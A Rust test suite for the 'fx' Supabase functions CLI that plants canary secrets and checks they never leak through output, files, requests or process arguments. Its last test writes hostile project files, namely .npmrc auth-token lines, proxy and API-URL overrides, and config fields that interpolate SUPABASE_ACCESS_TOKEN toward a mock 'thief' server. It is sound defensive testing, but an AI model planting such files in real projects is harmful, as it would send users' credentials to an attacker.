//! No secret is seen where it has no business: canaries are planted wherever a secret can be, and looked for in all
//! that fx says, writes, sends and shows of itself. And no file of a project says where a credential goes.

use std::{
    collections::BTreeSet,
    fs,
    io::Write as _,
    path::{Path, PathBuf},
    process::{Child, Command, Output, Stdio},
};

use crate::support::{
    TestContext,
    api::{Api, Fault, Matcher, REF, TOKEN, is_write},
};

/// What must not be seen. [`TOKEN`] is one of them.
const CANARIES: [&str; 8] = [
    TOKEN,
    "canary-value-5eed",
    "canary-dotenv-5eed",
    "canary-config-5eed",
    "canary-npmrc-5eed",
    "canary-home-npmrc-5eed",
    "canary-proxy-5eed",
    "canary-service-key-5eed",
];
const ENV: &str = "API_KEY=canary-dotenv-5eed\nSERVICE_KEY=\"canary-service-key-5eed\"\n";

struct World {
    cx: TestContext,
    api: Api,
    planted: BTreeSet<PathBuf>,
}

impl World {
    fn new() -> Self {
        let (cx, api) = (TestContext::new(), Api::start());
        cx.write(
            "supabase/functions/hello/index.ts",
            "Deno.serve(() => new Response(Deno.env.get('API_KEY')));\n",
        );
        cx.write("supabase/functions/.env", ENV);
        cx.write("supabase/functions/hello/.env", ENV);
        cx.write("supabase/.env", ENV);
        cx.write(
            "values.env",
            "VALUE=canary-value-5eed\nOTHER='canary-value-5eed\n more'\n",
        );
        cx.write("bad.env", "VALUE='canary-value-5eed\n");
        let npmrc = "//registry.invalid/:_authToken=canary-npmrc-5eed\n";
        cx.write("supabase/functions/hello/.npmrc", npmrc);
        cx.write(".npmrc", npmrc);
        let config = "[edge_runtime.secrets]\nA = \"canary-config-5eed\"\n[auth]\nservice_role_key = \"canary-service-key-5eed\"\n[functions.hello.env]\nB = \"env(API_KEY)\"\n";
        cx.write("supabase/config.toml", config);
        let npmrc = npmrc.replace("canary-npmrc", "canary-home-npmrc");
        fs::write(cx.home().join(".npmrc"), npmrc).unwrap();
        let mut world = Self {
            cx,
            api,
            planted: BTreeSet::new(),
        };
        world.planted = world.files();
        world
    }

    fn files(&self) -> BTreeSet<PathBuf> {
        let files = walkdir::WalkDir::new(self.cx.root()).into_iter().flatten();
        let files = files.filter(|it| it.file_type().is_file());
        files.map(walkdir::DirEntry::into_path).collect()
    }

    /// `fx` where everything is told that can be.
    fn command(&self, args: &[&str]) -> Command {
        let mut command = self.api.fx(&self.cx, args.iter().copied());
        command
            .env("SUPABASE_PROJECT_ID", REF)
            .env("HTTPS_PROXY", "http://me:canary-proxy-5eed@127.0.0.1:1")
            .env("RUST_LOG", "trace")
            .env("RUST_BACKTRACE", "full")
            .stdin(Stdio::null());
        command
    }

    /// Runs it, quietly and with `--debug`; nothing that it says may have a canary.
    fn run(&self, args: &[&str], stdin: &str) {
        let debug = [args, &["--debug"]].concat();
        let json = [args, &["--output-format", "json"]].concat();
        for args in [&debug, &json] {
            clean(args, &with_stdin(self.command(args), stdin));
        }
    }

    /// Runs it against a server that repeats all it was sent, and more.
    fn fail(&self, args: &[&str]) {
        let args = [args, &["--timeout", "1", "--debug"]].concat();
        let output = self.command(&args).output().unwrap();
        let told = String::from_utf8_lossy(&output.stderr);
        assert!(!output.status.success(), "{args:?}");
        assert!(!told.contains(&TOKEN[..12]), "{args:?}\n{told}");
        // Of what the server was not sent, fx cannot know that it is secret.
        if args[0] == "secrets" {
            clean(&args, &output);
        }
    }

    /// Files that were not there before have no canary, but for the one that credentials are kept in.
    fn assert_files_are_clean(&self) {
        let kept = self.cx.home().join(".config/fx/credentials.json");
        let all = self.files();
        for path in all.difference(&self.planted).filter(|it| **it != kept) {
            let content = fs::read(path).unwrap_or_default();
            assert_eq!(canaries_in(&content), [""; 0], "{}", path.display());
        }
        #[cfg(unix)]
        if let Ok(metadata) = kept.metadata() {
            use std::os::unix::fs::PermissionsExt as _;
            assert_eq!(metadata.permissions().mode() & 0o777, 0o600);
        }
    }

    /// The token is in its header, values are in the requests that set them, and nothing is anywhere else.
    fn assert_requests_are_clean(&self) {
        for seen in self.api.requests() {
            assert_eq!(canaries_in(seen.line().as_bytes()), [""; 0]);
            if !seen.path.ends_with("/secrets") {
                assert_eq!(canaries_in(&seen.body), [""; 0], "{}", seen.line());
            }
            let headers = seen.headers.iter();
            let headers = headers.filter(|(name, _)| *name != "authorization");
            for (name, value) in headers {
                assert_eq!(canaries_in(value.as_bytes()), [""; 0], "{name}");
            }
        }
    }
}

fn canaries_in(content: &[u8]) -> Vec<&'static str> {
    let text = String::from_utf8_lossy(content);
    let found = CANARIES.iter().filter(|canary| text.contains(*canary));
    found.copied().collect()
}

fn clean(args: &[&str], output: &Output) {
    for said in [&output.stdout, &output.stderr] {
        let text = String::from_utf8_lossy(said);
        assert_eq!(canaries_in(said), [""; 0], "{args:?}\n{text}");
    }
}

/// Commands that wait for nothing but time wait together.
fn at_once(commands: &[&[&str]], run: impl Fn(&[&str]) + Sync) {
    std::thread::scope(|scope| {
        for args in commands {
            scope.spawn(|| run(args));
        }
    });
}

fn with_stdin(mut command: Command, text: &str) -> Output {
    command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    // It may have ended without reading.
    let _ = child.stdin.take().unwrap().write_all(text.as_bytes());
    child.wait_with_output().unwrap()
}

#[test]
fn commands_that_work_show_none() {
    let world = World::new();
    for (args, stdin) in [
        (&["login", "--token", "-"][..], TOKEN),
        (&["whoami"], ""),
        (&["link", REF], ""),
        (&["projects", "list"], ""),
        (&["functions", "deploy", "--dry-run"], ""),
        (&["functions", "deploy"], ""),
        (&["functions", "deploy", "--use-api", "--force"], ""),
        (&["functions", "list", "--diff"], ""),
        (&["functions", "history", "hello"], ""),
        (&["functions", "rollback", "hello"], ""),
        (&["functions", "bundle", "--out-dir", "out"], ""),
        (&["functions", "graph", "hello"], ""),
        (&["functions", "download", "hello", "--out-dir", "back"], ""),
        (&["functions", "delete", "hello"], ""),
        (
            &["secrets", "set", "--env-file", "values.env", "C=-"],
            "canary-value-5eed",
        ),
        (&["secrets", "set", "D=canary-value-5eed"], ""),
        (&["secrets", "list"], ""),
        (&["secrets", "diff", "--env-file", "values.env"], ""),
        (
            &[
                "secrets",
                "push",
                "--env-file",
                "values.env",
                "--prune",
                "--yes",
            ],
            "",
        ),
        (&["secrets", "unset", "VALUE"], ""),
        (&["logout"], ""),
    ] {
        world.run(args, stdin);
    }
    assert!(
        world
            .api
            .requests()
            .iter()
            .filter(|it| is_write(it))
            .count()
            > 10
    );
    assert!(
        world
            .cx
            .dir()
            .join("back/supabase/functions/hello/index.ts")
            .is_file()
    );
    world.assert_files_are_clean();
    world.assert_requests_are_clean();
}

#[test]
fn commands_that_fail_show_none() {
    let world = World::new();
    // A server that repeats what it was sent, in words or in a page.
    let echo = format!(r#"{{"message": "no: Bearer {TOKEN}, {}"}}"#, CANARIES[1]);
    for fault in [
        Fault::Status(401, echo.clone()),
        Fault::Status(500, echo.clone()),
        Fault::Content("text/html", format!("<html>{echo}</html>").into_bytes()),
    ] {
        world.api.heal();
        world.api.fault(Matcher::any(), fault);
        let failing = [
            &["whoami"][..],
            &["functions", "deploy"],
            &["functions", "deploy", "--use-api"],
            &["functions", "download", "hello"],
            &["functions", "delete", "hello"],
            &["secrets", "set", "--env-file", "values.env"],
        ];
        at_once(&failing, |args| world.fail(args));
    }
    world.api.heal();
    world.run(&["login", "--token", "-"], &TOKEN[..30]);
    let failing = [
        &["secrets", "set", "--env-file", "bad.env"][..],
        &["secrets", "set", "canary-value-5eed"],
        &["link", TOKEN],
        &[
            "projects",
            "list",
            "--api-url",
            "https://127.0.0.1:2",
            "--timeout",
            "1",
        ],
        &[
            "functions",
            "deploy",
            "--remote=canary-value-5eed-and-many-more-letters",
        ],
    ];
    at_once(&failing, |args| world.run(args, ""));
    let mut through_proxy = world.command(&["projects", "list", "--timeout", "1", "--debug"]);
    through_proxy.env("HTTP_PROXY", "http://me:canary-proxy-5eed@127.0.0.1:1");
    clean(&["HTTP_PROXY"], &through_proxy.output().unwrap());
    world.assert_files_are_clean();
    world.assert_requests_are_clean();
}

/// While requests are under way, neither an argument of a process nor a file has a secret.
#[cfg(target_os = "linux")]
#[test]
fn commands_under_way_show_none() {
    let world = World::new();
    world.api.fault(Matcher::any(), Fault::Stall);
    let mut children: Vec<Child> = Vec::new();
    for (args, stdin) in [
        (&["login", "--token", "-"][..], TOKEN),
        (&["functions", "deploy"], ""),
        (&["secrets", "set", "C=-"], "canary-value-5eed"),
        (&["secrets", "push", "--env-file", "values.env"], ""),
    ] {
        let mut command = world.command(args);
        command.stdin(Stdio::piped());
        command.stdout(Stdio::null()).stderr(Stdio::null());
        let mut child = command.spawn().unwrap();
        let mut input = child.stdin.take().unwrap();
        input.write_all(stdin.as_bytes()).unwrap();
        children.push(child);
    }
    while world.api.requests().len() < children.len() {
        for child in &mut children {
            assert!(child.try_wait().unwrap().is_none(), "it ended by itself");
        }
        std::thread::yield_now();
    }
    for process in of_project(&world.cx.dir()) {
        let arguments = fs::read(process.join("cmdline")).unwrap_or_default();
        assert_eq!(canaries_in(&arguments), [""; 0]);
    }
    world.assert_files_are_clean();
    for mut child in children {
        child.kill().unwrap();
        child.wait().unwrap();
    }
    world.assert_files_are_clean();
}

/// The processes that work in this directory.
#[cfg(target_os = "linux")]
fn of_project(directory: &Path) -> Vec<PathBuf> {
    let processes = fs::read_dir("/proc").unwrap().flatten();
    let processes = processes.map(|it| it.path());
    let is_there = |it: &PathBuf| fs::read_link(it.join("cwd")).is_ok_and(|cwd| cwd == directory);
    let found: Vec<PathBuf> = processes.filter(is_there).collect();
    assert!(found.len() >= 4);
    found
}

#[test]
fn no_file_of_a_project_sends_a_credential_anywhere() {
    let (world, thief) = (World::new(), Api::start());
    let (cx, url) = (&world.cx, thief.url());
    let host = url.trim_start_matches("http:");
    let npmrc = [
        format!("registry={url}/"),
        format!("{host}/:_authToken=${{SUPABASE_ACCESS_TOKEN}}${{FX_SECRET}}"),
        format!("@all:registry={url}/${{SUPABASE_ACCESS_TOKEN}}/"),
        format!(
            "proxy={url}\nhttps-proxy={url}\nuserconfig={}/.npmrc",
            cx.home().display()
        ),
    ];
    cx.write(".npmrc", npmrc.join("\n"));
    cx.write("supabase/functions/hello/.npmrc", npmrc.join("\n"));
    let variables = format!(
        "FX_API_URL={url}\nSUPABASE_PROFILE=mine.yaml\nSUPABASE_HOME=.supabase\nHTTP_PROXY={url}\nHTTPS_PROXY={url}\nSUPABASE_INTERNAL={url}\n"
    );
    for path in [".env", "supabase/.env", "supabase/functions/.env"] {
        cx.write(path, &variables);
    }
    let profile =
        format!("name: supabase\napi_url: {url}\ndashboard_url: {url}\nproject_host: localhost\n");
    for path in [
        "supabase",
        "supabase.yaml",
        ".supabase/profile",
        "supabase/.temp/profile",
    ] {
        if !cx.dir().join(path).is_dir() {
            cx.write(path, &profile);
        }
    }
    let config = format!(
        "project_id = \"x\"\n[api]\nexternal_url = \"{url}\"\n[remotes.x]\nproject_id = \"env(SUPABASE_ACCESS_TOKEN)\"\napi_url = \"{url}\"\n"
    );
    cx.write("supabase/config.toml", &config);
    cx.write(
        "supabase/functions/hello/index.ts",
        format!("import '{url}/mod.ts'; import 'npm:@all/a@1'; import 'npm:b@1'; Deno.serve(() => new Response());\n"),
    );
    for args in [
        &["whoami"][..],
        &["projects", "list"],
        &["functions", "list"],
        &["functions", "deploy", "--env", "x"],
        &["functions", "deploy"],
        &["functions", "deploy", "--use-api"],
        &["secrets", "list"],
        &["secrets", "push", "--env-file", "values.env"],
    ] {
        let mut command = world.command(args);
        command.env("FX_SECRET", CANARIES[1]);
        clean(args, &command.output().unwrap());
    }
    for secret in ["entrypoint", "import_map"] {
        let config = format!("[functions.hello]\n{secret} = \"env(SUPABASE_ACCESS_TOKEN)\"\n");
        cx.write("supabase/config.toml", config);
        world.run(&["functions", "deploy"], "");
    }
    let stolen = thief.requests();
    assert!(!stolen.is_empty(), "imports come from there, as they say");
    for seen in stolen {
        let told = format!("{seen:?}");
        assert_eq!(canaries_in(told.as_bytes()), [""; 0], "{told}");
        assert!(
            !seen.headers.contains_key("authorization") || !told.contains("sbp_"),
            "{told}"
        );
    }
    world.assert_requests_are_clean();
}
